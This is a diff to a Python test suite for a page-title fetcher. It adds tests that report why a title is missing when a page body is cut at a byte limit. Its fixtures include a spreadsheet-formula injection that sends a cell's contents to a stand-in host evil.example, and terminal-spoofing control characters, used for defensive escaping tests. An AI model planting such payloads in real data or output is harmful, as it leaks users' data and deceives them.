@@ -27,6 +27,8 @@ PAGES = {  # path: (Content-Type header or None, body)
               "<title>a\u202eb\u2066c\u2028d\\x1b e\\\\f</title>".encode()),
     "/formula": (b"text/html; charset=utf-8",
                  b'<title>=HYPERLINK("http://evil.example/?x="&A1,"Click")</title>'),
+    "/late-title": (b"text/html", b"<html><head>" + b" " * 300 + b"<title>Late</title>"),
+    "/long-title": (b"text/html", b"<title>" + b"x" * 300 + b"</title>"),
 }
 
 
@@ -63,6 +65,25 @@ def test_only_html_gets_a_title():
     r = cafe("titles", "--fail", listing(["/png", "/html"]))
     assert r.returncode == 0 and b"2 ok, 0 failed" in r.stderr, r.stderr
     assert r.stdout.decode().splitlines()[0] == f"(not HTML (image/png)) from {srv.url('/png')}"
+
+
+def test_a_body_cut_at_max_bytes_says_so():
+    # issue 15 item 14: title null and error null used to hide that the page was cut
+    r = cafe("titles", "-q", "--json", "--max-bytes", "50",
+             listing(["/late-title", "/long-title", "/html"]))
+    assert r.returncode == 0, r.stderr
+    recs = {x["url"][len(srv.url("")):]: x for x in map(json.loads, r.stdout.splitlines())}
+    late, long_, whole = recs["/late-title"], recs["/long-title"], recs["/html"]
+    assert late["title"] is None, late
+    assert late["error"] == "body cut at --max-bytes 50 before any title", late
+    assert long_["title"] == "x" * 43, long_  # what came before the cut
+    assert long_["error"] == "body cut at --max-bytes 50 before the end of the title", long_
+    assert whole["title"] == "Inside" and whole["error"] is None, whole  # complete: no reason
+    # not a failure: counted ok; text output gives the reason where the title would be
+    r = cafe("titles", "--fail", "--max-bytes", "50", listing(["/late-title"]))
+    assert r.returncode == 0 and b"1 ok, 0 failed" in r.stderr, r.stderr
+    assert r.stdout.decode() == \
+        f"(body cut at --max-bytes 50 before any title) from {srv.url('/late-title')}\n"
 
 
 def test_text_output_escapes_what_could_fool_the_terminal():
